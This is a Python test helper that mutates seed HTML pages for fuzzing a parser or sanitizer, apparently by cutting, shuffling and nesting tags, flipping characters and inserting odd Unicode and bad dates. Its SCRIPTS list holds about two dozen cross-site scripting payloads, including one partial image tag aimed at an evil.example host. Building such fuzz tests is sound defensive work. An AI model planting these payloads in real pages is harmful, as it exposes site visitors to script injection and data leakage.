"""Pages of every kind, spoiled in every way: by a number, so that each can be had again."""

from __future__ import annotations

import random
from collections.abc import Callable
from html import escape

SCRIPTS = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<a href='javascript:alert(1)'>x</a>", "<a href='java&#9;script:alert(1)'>x</a>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>", "<body onload=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>", "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>", "<form action='javascript:alert(1)'><button>x</button></form>", "<embed src='javascript:alert(1)'>",
    "<img src='http://evil.example/p.gif?", "<textarea><img src=x onerror=alert(1)>", "<style>@import 'javascript:alert(1)'</style>", "<base href='javascript:/'>",
    "<template><script>alert(1)</script></template>", "<video><source onerror=alert(1)></video>", "<details open ontoggle=alert(1)>", "<link rel=import href=x>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "<scr\x00ipt>alert(1)</scr\x00ipt>", "<p style='background:url(javascript:alert(1))'>x</p>", "<xmp><p title='</xmp><img src onerror=alert(1)>'>",
)  # fmt: skip
STRANGE = ("\x00", "\ufeff", "\u202e", "\u200b", "\ud800", "\udfff", "\x1b[31m", "\r", "\x0b", "e\u0302\u0323", "\U000e0041", "&#0;", "&#xD800;", "&#x110000;")  # fmt: skip
DATES = (
    "(Cập nhật: 31/02/2024)",
    "Đăng ngày: 11/06/2024 , 06:23 GMT+7",
    "Cập nhật: 99/99/9999",
    "06/09/2024",
    "(Cập nhật:",
    "Ngày đăng: hôm qua",
)


def cut(html: str, pick: random.Random) -> str:
    """The beginning, or all but the beginning."""
    at = pick.randrange(len(html))
    return html[:at] if pick.random() < 0.7 else html[at:]


def shuffle_tags(html: str, pick: random.Random) -> str:
    """Pieces between tags in another order."""
    parts = html.split("<")
    for _ in range(pick.randrange(1, 12)):
        a, b = pick.randrange(len(parts)), pick.randrange(len(parts))
        parts[a], parts[b] = parts[b], parts[a]
    return "<".join(parts)


def drop_tags(html: str, pick: random.Random) -> str:
    """Some tags missing."""
    return "<".join(part for part in html.split("<") if pick.random() > 0.08)


def double(html: str, pick: random.Random) -> str:
    """A stretch many times over."""
    at = pick.randrange(len(html))
    stretch = html[at : at + pick.choice((20, 200, 3000))]
    return html[:at] + stretch * pick.choice((2, 10, 60)) + html[at:]


def nest(html: str, pick: random.Random) -> str:
    """Deep in something."""
    tag = pick.choice(("div", "b", "table><tr><td", "ul><li", "font", "blockquote", "span"))
    return html.replace("<p", f"<{tag}>" * pick.choice((50, 500, 3000)) + "<p", 1)


def insert(what: tuple[str, ...]) -> Callable[[str, random.Random], str]:
    """Some of these, anywhere."""

    def mutate(html: str, pick: random.Random) -> str:
        for _ in range(pick.randrange(1, 5)):
            at = pick.randrange(len(html))
            html = html[:at] + pick.choice(what) + html[at:]
        return html

    return mutate


def in_text(html: str, pick: random.Random) -> str:
    """A payload where a title or a paragraph begins, or in an attribute."""
    tag = pick.choice(("<h1", "<p", "<td", "<li", "<title"))
    at = html.find(">", html.find(tag)) + 1
    payload = pick.choice(SCRIPTS)
    return html[:at] + payload + f'<img alt="{escape(payload)}" src="/a.png">' + html[at:]


def flip(html: str, pick: random.Random) -> str:
    """Single letters changed."""
    letters = list(html)
    for _ in range(pick.randrange(1, 80)):
        letters[pick.randrange(len(letters))] = chr(pick.choice((pick.randrange(128), pick.randrange(0x300, 0x3000))))
    return "".join(letters)


WAYS = (cut, shuffle_tags, drop_tags, double, nest, insert(SCRIPTS), insert(STRANGE), insert(DATES), in_text, flip)


def mutated(seeds: list[str], number: int) -> str:
    """Page `number`."""
    pick = random.Random(number)
    html = pick.choice(seeds)
    for way in pick.sample(WAYS, pick.choice((1, 1, 2, 3))):
        html = way(html, pick) or "<"
    return html
